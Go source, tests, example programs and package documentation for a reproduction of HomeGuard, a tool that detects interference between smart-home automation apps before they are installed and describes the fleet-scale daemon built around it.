	h.SetMode("Night")
	h.Command("dev-lamp", "on")
	h.Step(400)
	lamp, _ := h.Device("dev-lamp")
	if v, _ := lamp.Attr("switch"); v.Str != "off" {
		t.Errorf("instrumented NightCare broken: lamp = %v", v)
	}
}

// TestStaticFindingVerifiedDynamically closes the loop: a threat HomeGuard
// reports statically is confirmed by running the same apps in the
// simulator (the paper verified discovered threats with simulated and
// real devices).
func TestStaticFindingVerifiedDynamically(t *testing.T) {
	its, _ := corpus.Get("ItsTooHot")
	saver, _ := corpus.Get("EnergySaver")

	// Static: SD between the two apps on the same AC.
	home := NewHome(Options{})
	cfg1 := NewConfig()
	cfg1.Devices["ac1"] = "dev-ac"
	cfg1.DeviceTypes["ac1"] = envmodel.AirConditioner
	if _, err := home.InstallApp(its.Source, cfg1); err != nil {
		t.Fatal(err)
	}
	cfg2 := NewConfig()
	cfg2.Devices["heavyLoads"] = "dev-ac"
	cfg2.DeviceTypes["heavyLoads"] = envmodel.AirConditioner
	res, err := home.InstallApp(saver.Source, cfg2)
	if err != nil {
		t.Fatal(err)
	}
	var sawSD bool
	for _, th := range res.Threats {
		if th.Kind == SelfDisabling {
			sawSD = true
		}
	}
	if !sawSD {
		t.Fatalf("static SD not reported: %v", res.Threats)
	}

	// Dynamic: turning the AC on pushes power over the threshold and
	// EnergySaver turns it right back off.
	h := platform.NewHome(3)
	h.AddDevice(&platform.Device{ID: "dev-ac", Name: "air conditioner",
		Capabilities: []string{"switch"}, Type: envmodel.AirConditioner, WattsOn: 2500})
	h.AddDevice(&platform.Device{ID: "dev-temp", Name: "temp",
		Capabilities: []string{"temperatureMeasurement"}})
	h.AddDevice(&platform.Device{ID: "dev-meter", Name: "meter",
		Capabilities: []string{"powerMeter"}})
	if _, err := interp.Install(h, its.Source, interp.NewConfig().
		Bind("tSensor", "dev-temp").Bind("ac1", "dev-ac").Set("hot", 28)); err != nil {
		t.Fatal(err)
	}
	if _, err := interp.Install(h, saver.Source, interp.NewConfig().
		Bind("meter", "dev-meter").Bind("heavyLoads", "dev-ac").Set("maxW", 2000)); err != nil {
		t.Fatal(err)
	}
	// Heat the room: ItsTooHot switches the AC on...
	h.InjectSensor("dev-temp", "temperature", platform.IntValue(33))
	ac, _ := h.Device("dev-ac")
	if v, _ := ac.Attr("switch"); v.Str != "on" {
		t.Fatalf("AC should be on after the heat spike, got %v", v)
	}
	// ...one meter tick later the power reading trips EnergySaver, which
	// turns it off again: the Self-Disabling loop closes.
	h.Step(120)
	if v, _ := ac.Attr("switch"); v.Str != "off" {
		t.Errorf("AC = %v — EnergySaver should have disabled ItsTooHot's action", v)
	}
}
