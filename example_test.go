package homeguard_test

import (
	"fmt"

	"homeguard"
)

// ExampleExtractRules shows symbolic rule extraction from SmartApp source.
func ExampleExtractRules() {
	src := `
definition(name: "Nightlight", namespace: "ex", author: "ex",
    description: "Turn on the light when motion is detected in the dark.",
    category: "Convenience")
input "motion1", "capability.motionSensor"
input "luxSensor", "capability.illuminanceMeasurement"
input "light1", "capability.switch"
input "darkLux", "number"
def installed() { subscribe(motion1, "motion.active", onMotion) }
def onMotion(evt) {
    if (luxSensor.currentIlluminance < darkLux) {
        light1.on()
    }
}
`
	res, err := homeguard.ExtractRules(src)
	if err != nil {
		fmt.Println("error:", err)
		return
	}
	for _, r := range res.Rules.Rules {
		fmt.Println(homeguard.DescribeRule(r))
	}
	// Output:
	// When motion1's motion becomes active, if luxSensor's illuminance is below the configured darkLux, then issue light1's on.
}

// ExampleHome_InstallApp shows install-time threat detection.
func ExampleHome_InstallApp() {
	openApp := `
definition(name: "OpenUp", namespace: "ex", author: "ex",
    description: "Open the window opener on motion.", category: "c")
input "motion1", "capability.motionSensor"
input "window1", "capability.switch"
def installed() { subscribe(motion1, "motion.active", go) }
def go(evt) { window1.on() }
`
	closeApp := `
definition(name: "ShutTight", namespace: "ex", author: "ex",
    description: "Close the window opener when the home sleeps.", category: "c")
input "window1", "capability.switch"
def installed() { subscribe(location, "mode", go) }
def go(evt) {
    if (evt.value == "Night") { window1.off() }
}
`
	home := homeguard.NewHome(homeguard.Options{})
	cfg1 := homeguard.NewConfig()
	cfg1.Devices["window1"] = "dev-window"
	if _, err := home.InstallApp(openApp, cfg1); err != nil {
		fmt.Println("error:", err)
		return
	}
	cfg2 := homeguard.NewConfig()
	cfg2.Devices["window1"] = "dev-window"
	res, err := home.InstallApp(closeApp, cfg2)
	if err != nil {
		fmt.Println("error:", err)
		return
	}
	for _, t := range res.Threats {
		fmt.Println(t.Kind, t.R1.App, "vs", t.R2.App)
	}
	// Output:
	// AR OpenUp vs ShutTight
}

// ExampleParseRecipe shows natural-language rule extraction (IFTTT-style).
func ExampleParseRecipe() {
	r, err := homeguard.ParseRecipe("ifttt", "If the humidity rises above 70 then turn on the fan")
	if err != nil {
		fmt.Println("error:", err)
		return
	}
	fmt.Println(homeguard.DescribeRule(r))
	// Output:
	// When humSensor's humidity becomes more than 70, then issue fan's on.
}
