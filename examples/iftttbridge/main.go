// IFTTT bridge (Sec. VIII-D / Table IV): platforms like IFTTT define rules
// through templates rather than programs. This example extracts rules from
// natural-language recipes with the NLP pipeline and runs cross-platform
// CAI detection against Groovy-extracted rules.
package main

import (
	"fmt"
	"log"

	"homeguard"
	"homeguard/internal/corpus"
	"homeguard/internal/envmodel"
)

func main() {
	recipes := []string{
		"If the temperature rises above 80 then turn on the fan",
		"When the temperature drops below 15, turn on the heater",
		"If motion is detected and the mode is night then turn on the light",
		"When presence leaves, lock the door",
		"If smoke is detected, send me a notification",
		"When the illuminance drops below 100 then open the curtain",
	}
	fmt.Println("== Extracting rules from IFTTT-style recipes ==")
	var rules []*homeguard.Rule
	for _, text := range recipes {
		r, err := homeguard.ParseRecipe("ifttt", text)
		if err != nil {
			fmt.Printf("  ✗ %q: %v\n", text, err)
			continue
		}
		fmt.Printf("  ✓ %q\n    → %s\n", text, homeguard.DescribeRule(r))
		rules = append(rules, r)
	}

	// Cross-platform detection: the recipe-driven fan fights a Groovy app
	// controlling the same physical fan.
	fmt.Println("\n== Cross-platform detection (recipes × Groovy apps) ==")
	home := homeguard.NewHome(homeguard.Options{})
	its, _ := corpus.Get("ItsTooHot") // Groovy: hot → AC(on); same class of conflict
	cfg := homeguard.NewConfig()
	cfg.Devices["ac1"] = "dev-fan"
	cfg.DeviceTypes["ac1"] = envmodel.Fan
	if _, err := home.InstallApp(its.Source, cfg); err != nil {
		log.Fatal(err)
	}
	// EnergySaver turns the same device off when power spikes.
	saver, _ := corpus.Get("EnergySaver")
	cfg2 := homeguard.NewConfig()
	cfg2.Devices["heavyLoads"] = "dev-fan"
	cfg2.DeviceTypes["heavyLoads"] = envmodel.Fan
	if _, err := home.InstallApp(saver.Source, cfg2); err != nil {
		log.Fatal(err)
	}
	cfg3 := homeguard.NewConfig()
	cfg3.Devices["fan"] = "dev-fan"
	cfg3.DeviceTypes["fan"] = envmodel.Fan
	threats := home.InstallRules("ifttt", rules, cfg3)
	if len(threats) == 0 {
		fmt.Println("  no threats found")
		return
	}
	for _, t := range threats {
		fmt.Println("  ⚠", homeguard.DescribeThreat(t))
	}
}
