// Quickstart: extract rules from the paper's ComfortTV app (Listing 1),
// install it alongside ColdDefender on the same devices, and watch
// HomeGuard report the Fig. 3 Actuator Race at install time.
package main

import (
	"fmt"
	"log"

	"homeguard"
	"homeguard/internal/corpus"
	"homeguard/internal/envmodel"
	"homeguard/internal/rule"
)

func main() {
	comfort, _ := corpus.Get("ComfortTV")
	cold, _ := corpus.Get("ColdDefender")

	// 1. Extraction only: what does this app do?
	res, err := homeguard.ExtractRules(comfort.Source)
	if err != nil {
		log.Fatal(err)
	}
	fmt.Println("== Extracted rules of", res.App.Name, "==")
	for _, r := range res.Rules.Rules {
		fmt.Println("  •", homeguard.DescribeRule(r))
		fmt.Println("    raw:", r)
	}

	// 2. Deployment flow: install both apps bound to the same TV and the
	// same window opener; the second install reports the race.
	home := homeguard.NewHome(homeguard.Options{})

	cfg1 := homeguard.NewConfig()
	cfg1.Devices["tv1"] = "0e0b-1111-tv"
	cfg1.Devices["window1"] = "77aa-2222-window"
	cfg1.DeviceTypes["window1"] = envmodel.WindowOpener
	cfg1.Values["threshold1"] = rule.IntVal(30)
	first, err := home.InstallApp(comfort.Source, cfg1)
	if err != nil {
		log.Fatal(err)
	}
	fmt.Println()
	fmt.Print(first.Report)

	cfg2 := homeguard.NewConfig()
	cfg2.Devices["tv1"] = "0e0b-1111-tv"
	cfg2.Devices["window1"] = "77aa-2222-window"
	cfg2.DeviceTypes["window1"] = envmodel.WindowOpener
	second, err := home.InstallApp(cold.Source, cfg2)
	if err != nil {
		log.Fatal(err)
	}
	fmt.Println()
	fmt.Print(second.Report)

	// 3. The instrumented app that ships configuration to the frontend.
	instrumented, err := homeguard.InstrumentApp(comfort.Source)
	if err != nil {
		log.Fatal(err)
	}
	fmt.Println("\n== First lines of the instrumented ComfortTV ==")
	for i, line := 0, 0; i < len(instrumented) && line < 6; i++ {
		fmt.Print(string(instrumented[i]))
		if instrumented[i] == '\n' {
			line++
		}
	}
}
