// Store audit (Fig. 8): run pairwise CAI detection over the 90-app store
// corpus with type-level device identity and NLP-classified switch types,
// then print the per-group statistics and a sample of findings. The
// pairwise sweep runs on the parallel audit engine (internal/audit), so
// the 4005-pair audit uses every core.
package main

import (
	"fmt"
	"sort"

	"homeguard/internal/audit"
	"homeguard/internal/corpus"
	"homeguard/internal/experiments"
	"homeguard/internal/frontend"
	"homeguard/internal/symexec"
)

func main() {
	fmt.Println("Auditing the store corpus pairwise — this mirrors Sec. VIII-B:")
	fmt.Println("two rules share a device when their devices share a type, and")
	fmt.Println("capability.switch devices are typed from app descriptions.")
	fmt.Println()

	res := experiments.Fig8()
	fmt.Print(experiments.FormatFig8(res))

	// Show a few concrete findings, echoing the paper's six case studies.
	// One parallel audit run yields the same threats, in the same order,
	// as the serial per-app install loop this example used to run.
	fmt.Println("\nSample findings:")
	var inputs []audit.App
	for _, a := range corpus.StoreAudit() {
		r, err := symexec.Extract(a.Source, "")
		if err != nil {
			continue
		}
		inputs = append(inputs, audit.App{Res: r, Config: experiments.StoreConfig(r)})
	}
	ar := audit.Run(inputs, audit.Options{})
	var sample []string
	for _, t := range ar.Threats() {
		sample = append(sample, "  "+frontend.DescribeThreat(t))
	}
	sort.Strings(sample)
	seenPairs := map[string]bool{}
	shown := 0
	for _, s := range sample {
		key := s[:min(60, len(s))]
		if seenPairs[key] {
			continue
		}
		seenPairs[key] = true
		fmt.Println(s)
		shown++
		if shown >= 12 {
			break
		}
	}
}

func min(a, b int) int {
	if a < b {
		return a
	}
	return b
}
