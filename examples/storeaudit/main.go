// Store audit (Fig. 8): run pairwise CAI detection over the 90-app store
// corpus with type-level device identity and NLP-classified switch types,
// then print the per-group statistics and a sample of findings.
package main

import (
	"fmt"
	"sort"

	"homeguard/internal/corpus"
	"homeguard/internal/detect"
	"homeguard/internal/experiments"
	"homeguard/internal/frontend"
	"homeguard/internal/symexec"
)

func main() {
	fmt.Println("Auditing the store corpus pairwise — this mirrors Sec. VIII-B:")
	fmt.Println("two rules share a device when their devices share a type, and")
	fmt.Println("capability.switch devices are typed from app descriptions.")
	fmt.Println()

	res := experiments.Fig8()
	fmt.Print(experiments.FormatFig8(res))

	// Show a few concrete findings, echoing the paper's six case studies.
	fmt.Println("\nSample findings:")
	d := detect.New(detect.Options{})
	var sample []string
	for _, a := range corpus.StoreAudit() {
		r, err := symexec.Extract(a.Source, "")
		if err != nil {
			continue
		}
		threats := d.Install(detect.NewInstalledApp(r, experiments.StoreConfig(r)))
		for _, t := range threats {
			sample = append(sample, "  "+frontend.DescribeThreat(t))
		}
	}
	sort.Strings(sample)
	seenPairs := map[string]bool{}
	shown := 0
	for _, s := range sample {
		key := s[:min(60, len(s))]
		if seenPairs[key] {
			continue
		}
		seenPairs[key] = true
		fmt.Println(s)
		shown++
		if shown >= 12 {
			break
		}
	}
}

func min(a, b int) int {
	if a < b {
		return a
	}
	return b
}
