package homeguard_test

import (
	"context"
	"fmt"
	"sync"
	"testing"

	"homeguard"
	"homeguard/internal/corpus"
)

// TestFleetPublicAPI drives the re-exported Fleet through the public
// package surface the way a service embedding homeguard would: shared
// cache, concurrent homes, metrics.
func TestFleetPublicAPI(t *testing.T) {
	comfort, _ := corpus.Get("ComfortTV")
	cold, _ := corpus.Get("ColdDefender")

	cache := homeguard.NewExtractionCache()
	verdicts := homeguard.NewPairVerdictCache()
	f := homeguard.NewFleet(homeguard.FleetOptions{Cache: cache, Verdicts: verdicts})

	const homes = 16
	var wg sync.WaitGroup
	threatsPerHome := make([]int, homes)
	for i := 0; i < homes; i++ {
		wg.Add(1)
		go func(i int) {
			defer wg.Done()
			id := fmt.Sprintf("home-%d", i)
			if _, err := f.Install(context.Background(), id, comfort.Source, nil); err != nil {
				t.Error(err)
				return
			}
			res, err := f.Install(context.Background(), id, cold.Source, nil)
			if err != nil {
				t.Error(err)
				return
			}
			threatsPerHome[i] = len(res.Threats)
		}(i)
	}
	wg.Wait()

	for i, n := range threatsPerHome {
		if n == 0 {
			t.Errorf("home %d: ComfortTV/ColdDefender pair reported no threats", i)
		}
		if n != threatsPerHome[0] {
			t.Errorf("home %d found %d threats, home 0 found %d; homes must be deterministic",
				i, n, threatsPerHome[0])
		}
	}
	if s := cache.Stats(); s.Misses != 2 {
		t.Errorf("cache ran %d extractions for 2 distinct apps across %d homes", s.Misses, homes)
	}
	m := f.Metrics()
	if m.Homes != homes || m.Installs != homes*2 {
		t.Errorf("metrics = %+v, want %d homes and %d installs", m, homes, homes*2)
	}
	if len(m.ThreatsByKind) == 0 {
		t.Error("metrics reported no threat kinds")
	}
	// The caller-provided pair-verdict cache absorbed the repeated solving:
	// every home after the first is served the pair's verdict from cache.
	if s := verdicts.Stats(); s.Hits == 0 || s.Misses == 0 || s.Misses*homes != s.Lookups {
		t.Errorf("pair-verdict stats = %+v across %d identical homes; want one home's worth of misses",
			s, homes)
	}
	if m.PairVerdicts.Lookups == 0 || m.Detectors.SolverCalls == 0 {
		t.Errorf("fleet metrics miss verdict-cache or detector counters: %+v", m)
	}
}
