module homeguard

go 1.24
