module homeguard

go 1.23
