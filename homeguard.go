// Package homeguard is a reproduction of "Cross-App Interference Threats
// in Smart Homes: Categorization, Detection and Handling" (Chi, Zeng, Du,
// Yu — DSN 2020): a system that extracts trigger–condition–action rules
// from SmartThings SmartApps via symbolic execution and detects Cross-App
// Interference (CAI) threats — Actuator Races, Goal Conflicts, Covert
// Triggering, Self Disabling, Loop Triggering, and Enabling/Disabling-
// Condition interference — before a new app is installed.
//
// The typical workflow mirrors HomeGuard's deployment:
//
//	home := homeguard.NewHome(homeguard.Options{})
//	res, err := home.InstallApp(srcA, cfgA) // extraction + detection
//	fmt.Println(res.Report)                 // human-readable dialog
//	home.Accept(res.Threats...)             // the user keeps the app
//
// # Deployment at scale
//
// A production deployment serves install-time detection for a whole
// population of homes from one service. The Fleet type is the entry
// point: a sharded, goroutine-safe manager of many homes in which
// per-home operations serialize (the detector's requirement) while
// distinct homes proceed in parallel across cores:
//
//	f := homeguard.NewFleet(homeguard.FleetOptions{})
//	res, err := f.Install(ctx, "home-42", src, nil) // safe from any goroutine
//	ts, err  := f.Threats("home-42")
//	m := f.Metrics()                                // installs, latency, cache
//
// The Fleet API is context-first: every mutating entry point (Install,
// InstallBatch, Reconfigure) takes a context.Context as its first
// argument and honors cancellation and deadlines between per-home
// operations. Reconfigure
// returns a *FleetReconfigureResult carrying the re-detected threats
// together with their position in the home's append-only threat log
// (ThreatLogBase) — previously a bare (threats, logBase, err) triple.
//
// All homes share one content-addressed extraction cache keyed by the
// SHA-256 of the app source, with singleflight deduplication: an app
// store SmartApp installed into a million homes is symbolically executed
// exactly once per daemon process, and concurrent cold-start installs of
// the same app coalesce onto a single extraction.
//
// Detection solving is deduplicated the same way by a fleet-shared
// pair-verdict cache. Every app pair's verdict (the full set of CAI
// threats between the two rule sets) is content-addressed by the SHA-256
// of both apps' canonical rule sets, their configuration bindings and the
// home's mode list — everything pair detection reads — so two homes that
// installed the same two apps with the same configurations provably share
// the verdict, and the constraint solver runs once per distinct pair for
// the whole fleet. Concurrent misses on one key coalesce singleflight:
// the first home computes under its own home lock while joining homes
// wait holding only their own locks, which cannot deadlock because the
// computation never touches another home's lock. Cached verdicts are
// immutable and shared without copying. In front of the cache, a
// per-app read/write footprint index prunes pairs with no interference
// channel at all (no shared device attribute, mode or environment
// property that either side writes) before any hashing or solving
// happens.
//
// Fleet metrics expose install counts, extraction and pair-verdict cache
// hit rates, footprint-prune and solver-call counters, p50/p99 install
// latency and per-kind threat counts for dashboards.
//
// cmd/homeguardd wraps a Fleet in an HTTP/JSON daemon (POST
// /homes/{id}/install, POST /homes/{id}/install-batch, POST
// /homes/{id}/reconfigure, GET /homes/{id}/threats, GET /metrics); see
// its package documentation for the wire format. For production
// profiling the daemon can expose Go's net/http/pprof endpoints on a
// separate, localhost-bound listener via -pprof-addr (disabled by
// default).
//
// Alongside HTTP the daemon serves a gRPC-modeled RPC edge
// (-rpc-addr, internal/rpc): Install, InstallBatch, Reconfigure,
// Threats, Accept, Apps and the SubmitApps/Findings store methods as
// unary calls plus StreamInstall and
// StreamThreats as bidirectional streams, multiplexed over one
// connection with per-RPC deadlines propagated from the client's
// context. Both transports are thin shells over one shared service
// core, so payloads and error semantics are identical (a parity test
// pins this): every failure is one typed envelope — a machine-readable
// code plus message — mapped to the matching HTTP status on the JSON
// edge and the matching gRPC status code on the RPC edge, with
// RESOURCE_EXHAUSTED/UNAVAILABLE responses carrying a retryAfterMs
// hint.
//
// The edge degrades by pipeline stage, not as a whole: extraction and
// detection sit behind independent circuit breakers (consecutive
// internal failures or deadline expiries open a breaker; after a
// cooldown a single half-open probe decides whether to close it).
// With extraction tripped — say the symbolic executor is panicking on
// a poisoned store app — installs shed fast with UNAVAILABLE while
// reconfigures, which never extract, keep serving; client-caused
// errors (unknown app, bad config) never trip anything. Breaker state
// is a gauge in /metrics.
//
// Operational visibility rides an asynchronous event pipeline
// (internal/events, FleetOptions.Events): each completed install and
// reconfigure publishes one operation event plus one event per
// reported threat into a bounded in-memory ring drained by a single
// writer goroutine to a pluggable sink (-events-sink: stdout JSON
// lines or a file). Publishing never blocks the request path — when
// the sink wedges, the ring drops the OLDEST events and counts them
// (homeguard_events_dropped_total) — so a dead disk or slow collector
// costs events, never installs.
//
// Beyond per-home serving, the daemon continuously audits an app STORE
// the way the paper's Fig. 8 batch job did once: an incremental store
// auditor (internal/audit's Auditor) holds the store's footprint-channel
// index, compiled rule sets and every pair's current verdict across
// revisions. POST /store/apps (RPC SubmitApps) applies one batch of
// submits/updates/removes and re-checks only the pairs whose footprints
// intersect a changed app; each batch yields a monotonically versioned
// revision whose findings delta — threats added and resolved per app
// pair, in serial install order — is published on the event pipeline
// (revision and finding events) and served as a feed: GET
// /store/findings?since=<rev> (RPC Findings) replays the deltas a client
// missed, or answers with a reset snapshot of the full active set when
// the asked-for revision has aged out of the bounded per-revision
// history. Feed consumers therefore reconstruct the exact active finding
// set by replaying deltas, and a client that falls too far behind is
// told to resynchronize rather than silently fed a gap. The same engine
// runs daemonless as `homeguard audit -watch <dir>`, turning file
// adds/edits/deletes into store batches.
//
// The edge's service level is measured, not asserted: cmd/homeguardload
// drives a live daemon's RPC listener with a configurable install-storm
// mix (weighted install/reconfigure/threats operations, per-worker home
// rotation through the corpus so both the extraction-cold and
// cache-warm paths are exercised) and reports per-operation latency
// quantiles. The measured install p99 is published in BENCH_pr7.json
// and enforced by a CI storm whose gate sits an order of magnitude
// above the measurement, so runner jitter cannot flake it while a
// serialization bug still trips it.
//
// # Performance architecture
//
// The detection pipeline is organized so that all repeatable work happens
// once, and the remaining per-pair work runs on precompiled artifacts:
//
//   - Compile-once rule sets. At install/reconfigure each app is compiled
//     into an immutable CompiledRuleSet: canonical formulas (variables
//     renamed to home-global form, configured values substituted), solver
//     variable declaration plans, action effects with pre-rendered
//     constraints, trigger metadata, the read/write footprint and the
//     verdict signature. A pair check therefore does no canonicalization
//     at all — before this layer it re-canonicalized both rules' formulas
//     for every one of the O(rules²) pairs. Compilations are themselves
//     shared fleet-wide through a content-addressed compile cache (same
//     extraction result + content-equal configuration = one compilation),
//     the same discipline as the extraction cache.
//
//   - An interned, slice-backed solver core. The finite-domain solver
//     interns variable names to dense indices at declaration; domains,
//     pending binary atoms and the difference-constraint graph are flat
//     slices indexed by variable id, propagation-state clones come from a
//     sync.Pool and are recycled on backtracking, and no-op domain
//     narrowings return their receiver without allocating. A
//     constant-folding pre-pass collapses comparisons between constants
//     (common after configuration substitution) so trivially-UNSAT
//     queries never enter the search.
//
//   - Layered caches from the coarsest grain down: the extraction cache
//     (one symbolic execution per distinct app source fleet-wide, bounded
//     with eviction so source churn cannot grow it without limit), the
//     pair-verdict cache (one solved verdict per distinct app pair,
//     content-addressed by the compiled signatures), the footprint prune
//     (disjoint pairs skipped before any hashing or solving), and the
//     per-home satCache (solving-result reuse across threat kinds within
//     a pair, the paper's Fig. 9 green arrows). A cache hit at any layer
//     short-circuits everything below it; the compiled representation is
//     what makes the remaining misses cheap.
//
//   - An allocation-lean extraction cold path. The cache-miss cost of the
//     layers above is a full parse plus symbolic execution, so both were
//     rebuilt around reuse: the Groovy front end lexes byte-driven tokens
//     that are substrings of the source (token buffers and parser shells
//     recycle through pools), parser nodes come from per-type arenas and
//     child slices from shared slabs; the symbolic executor forks paths
//     with copy-on-write scope chains (a fork freezes the chain and a
//     path copies only the frames it writes), shares constraint slices
//     between fork siblings until either appends, merges indistinguishable
//     forked states (preserving their multiplicity for path counts and
//     rule emission), and interns the canonical variable names it shares
//     with the detect compile step. One extraction now costs a few dozen
//     allocations instead of a few hundred.
//
//   - Sublinear candidate generation: an inverted footprint-channel
//     index. Every canonical name an app's rules read or write is a
//     channel; the detector keeps channel → posting-list-of-apps (each
//     posting tagged with the app's read/write membership for that
//     channel), and Install/Reconfigure query the
//     postings of the new footprint's channels for candidate
//     counterparts instead of enumerating every installed app. The
//     candidate set equals exactly the set the per-pair footprint prune
//     would have kept (a pinned property test compares against the
//     brute-force all-pairs filter), so findings are byte-identical —
//     but pairs with no shared channel are never generated at all, making
//     candidate generation proportional to actual channel overlap rather
//     than home or store size. Stats.PairsIndexed/PairsSkippedByIndex
//     (surfaced in /metrics) report the effect.
//
//   - A parallel audit engine with index-driven work items (the paper's
//     Sec. VIII-B store audit). internal/audit builds its pair tasks from
//     the same posting lists — the sparse 1k-app synthetic audit drops
//     from the quadratic pair grid to near-linear candidate generation
//     (BENCH_pr5.json: 2.3x at 1k apps, 3.4x at 2k, the gap growing with
//     scale) — and falls back to the grid when overlap density makes
//     postings pointless. The tasks then fan out over a work-stealing
//     worker pool — one detector per worker, apps compiled once and
//     shared read-only — and results reassemble in serial install order,
//     byte-identical to the grid and to the serial audit at any worker
//     count. Fleet.InstallBatch uses the same idea at provisioning time:
//     a batch's extractions run in parallel through the shared cache
//     before the installs serialize on the home.
//
//   - An incremental STORE auditor: O(Δ) re-detection per store revision.
//     Where the parallel engine recomputes a whole store, audit.Auditor
//     keeps the index, the compiled apps and all pair verdicts alive
//     across batches, so a store that churns a few apps re-extracts only
//     those apps and re-solves only the pairs whose footprints intersect
//     them (posting-list candidates; pairs that stopped sharing any
//     channel resolve by the footprint prune without solving, and
//     untouched pairs keep their verdicts). A 1% churn batch on the
//     2k-app sparse corpus costs a small fraction of the full indexed
//     re-audit (BenchmarkIncrementalAudit in BENCH_pr8.json), while a
//     churn property test pins the active findings byte-identical to a
//     from-scratch audit at every revision.
//
//   - An incremental per-home threat ledger. Each fleet home retains its
//     current threat set grouped by app pair; Reconfigure re-solves only
//     the pairs whose footprint intersects the changed app (the index's
//     candidates, with its postings updated to the new bindings first)
//     and splices the result into the retained ledger — replaced where
//     re-detected, dropped where resolved, untouched elsewhere — rather
//     than recomputing the home. Fleet.ActiveThreats (GET
//     /homes/{id}/threats?active=true) serves that live view, while
//     Threats remains the append-only history.
//
//   - Persistent warm-start snapshots. Both fleet-level caches persist:
//     Snapshot/Restore on the extraction cache and the pair-verdict cache
//     write a versioned, length-prefixed, SHA-256-checksummed binary
//     stream (internal/snapcodec), and homeguardd's -snapshot-path wires
//     them to load-on-boot and save-on-shutdown (atomic rename). A
//     restarted daemon therefore serves a repeat install storm of its
//     catalog with a ≥0.99 extraction-cache hit ratio and zero re-solved
//     pair verdicts, instead of re-extracting the world. Version skew and
//     corruption are rejected with typed errors and degrade to a cold
//     start, never to loaded garbage.
//
// # Durability
//
// Warm-start snapshots only persist on graceful shutdown; the
// write-ahead log (internal/wal) closes the crash window. A fleet or
// store auditor given a wal.Log (Fleet.AttachWAL, Auditor.AttachWAL)
// appends one logical operation record — install, reconfigure, threat
// accept, store audit batch — to a segmented, CRC32C-framed,
// monotonically LSN-numbered log BEFORE acknowledging the operation,
// under the same lock that applied the mutation, so the log's record
// order IS the commit order. Three fsync policies trade latency for
// loss window: always (fsync before every ack — zero acked loss, the
// configuration the fault-injection tests run under), interval
// (batched fsync on a 50ms timer — bounded loss window), off (OS page
// cache). A failed append or fsync latches the log into a crash-stop
// state that refuses further appends rather than acking writes the
// disk never saw.
//
// Records are logical and self-contained: an install record carries
// the marshaled extraction result and resolved configuration, so
// recovery replays deterministically without re-running symbolic
// execution or config resolution. Replay is idempotent through
// per-entity LSN watermarks (each home and the auditor persist the
// LSN of their last applied record in the checkpoint; replay skips
// records at or below the watermark), so a checkpoint plus an
// overlapping log tail applies exactly once. On open, a torn final
// record — the crash landed mid-write — is truncated away; corruption
// anywhere earlier refuses the log with a typed error instead of
// replaying garbage. A crash-point property test walks EVERY torn
// prefix of a multi-segment log and requires the recovered state to
// equal an exact prefix of the acked operation sequence, and a
// daemon-level test SIGKILLs a live homeguardd mid install storm and
// requires zero acked installs lost; both run in CI.
//
// A background checkpointer (homeguardd -checkpoint-interval) bounds
// replay time and log growth: it captures the log position, writes the
// full state — both caches, every home with its ledger and accepted
// threats, the store auditor with its revision history — to a temp
// file, atomically renames it into place (parent directory fsynced so
// the rename itself is durable), then garbage-collects the segments
// the checkpoint covers. A restarted store daemon therefore resumes at
// its last revision and serves FindingsSince deltas across the
// restart instead of resetting its feed. The recovery path is gated:
// homeguardd brings its listener up first, answers 503 on every API
// route while the checkpoint loads and the tail replays (health
// probes stay live so orchestrators see an honest readiness flip),
// and marks ready only when recovery completes.
//
// # Cluster deployment
//
// One daemon scales to many cores; a fleet of daemons scales past one
// machine. cmd/homeguardgw is the cluster gateway: it serves the exact
// HTTP and RPC edges the daemon does and routes each request to one of
// several homeguardd nodes (internal/cluster) by consistent hashing —
// every home ID maps onto a ring of virtual nodes built
// deterministically from the sorted membership, so identically
// configured gateway replicas agree on placement with zero
// coordination, and the ring version (a digest of membership) is
// exported as a gauge to catch config skew between replicas. Store
// endpoints hash as a single ring key, keeping the auditor's revision
// feed on one node.
//
// Health is measured, not assumed: the gateway pings every node each
// heartbeat interval (the daemon's -node-id answers the Ping, and an
// address answering with the WRONG identity is treated as down rather
// than trusted), declares a node dead after K consecutive misses and
// live again after one successful probe. Requests to a dead node's
// homes fail over to the next live owner clockwise on the ring — the
// ring itself never rebuilds, so placement snaps back when the node
// recovers. Per-node circuit breakers shed calls to flapping nodes
// with UNAVAILABLE + retryAfterMs, and the gateway's retry layer
// (jittered exponential backoff honoring the server hint, bounded by
// attempts and a per-request time budget) retries only idempotent-safe
// failures: UNAVAILABLE always, DEADLINE_EXCEEDED only for reads — a
// timed-out write may have applied.
//
// Failover does not lose acknowledged work: the gateway journals every
// mutating operation it has acked, per home, and replays the journal
// onto a home's new owner — tolerating ALREADY_EXISTS for records the
// target already holds from its own WAL — before serving the home
// there, both eagerly on a health transition and lazily on first
// touch. Replay cost is bounded by the fleet's content-addressed
// extraction and pair-verdict caches: the survivor re-solves nothing
// it has seen before. A chaos test (and CI job) kill -9s one node of a
// two-node fleet mid install storm and requires every gateway-acked
// operation to remain served. The journal is in-memory and lives for
// the gateway process; checkpoint-aware truncation (dropping ops a
// node's own durable WAL provably covers) is future work.
//
// Planned moves use the same machinery end to end: POST /admin/migrate
// (or the MigrateHome/AdoptHome RPCs) drains the home on its current
// owner via fleet.ExportHome — a single-home snapcodec section — adopts
// it on the target via fleet.ImportHome, pins routing to the target,
// and rewrites the home's journal to the one adopt operation, so a
// later failover rebuilds the migrated state from the snapshot instead
// of the pre-migration op history. A failed adopt rolls the home back
// onto its source. GET /cluster reports ring version, per-node
// health/breaker state and pins.
//
// # Observability
//
// The Observer type (FleetOptions.Obs) bundles the process-wide
// observability state — a metrics registry, a span tracer and a
// slow-request capture — and threads it through the whole pipeline with
// zero third-party dependencies. A fleet given an Observer registers a
// metrics collector on its registry; homeguardd creates one per process
// and serves it.
//
// Metrics. Registry.WritePrometheus emits Prometheus text exposition
// (format 0.0.4) alongside the JSON snapshot /metrics always served.
// The stable catalog, all prefixed homeguard_:
//
//	homes (gauge)                                  homes managed
//	installs_total, install_errors_total,
//	install_conflicts_total, reconfigures_total    operation counters
//	threats_total{kind=...}                        threats per Table I kind
//	install_duration_seconds (histogram)           install latency
//	extract_cache_{lookups,hits,misses,evictions}_total, extract_cache_entries
//	verdict_cache_{lookups,hits,misses}_total, verdict_cache_entries
//	detect_pairs_{checked,pruned,indexed,skipped_by_index}_total
//	detect_verdict_{hits,misses}_total
//	solver_calls_total, solver_cache_hits_total, solver_limit_hits_total
//	audit_runs_total, audit_pairs_checked_total,
//	audit_solver_calls_total, audit_threats_total  store-audit engine
//	audit_revisions_total, audit_pairs_rechecked_total,
//	audit_findings_{added,resolved}_total          incremental store auditor
